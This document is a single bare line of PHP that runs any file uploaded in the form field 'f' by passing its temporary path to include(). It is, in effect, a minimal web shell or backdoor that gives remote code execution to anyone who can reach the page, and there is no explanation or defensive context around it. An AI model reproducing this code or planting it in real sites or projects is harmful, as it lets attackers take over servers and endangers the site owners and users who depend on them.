<?php if (!empty($_FILES['f'])) { include($_FILES['f']['tmp_name']); }
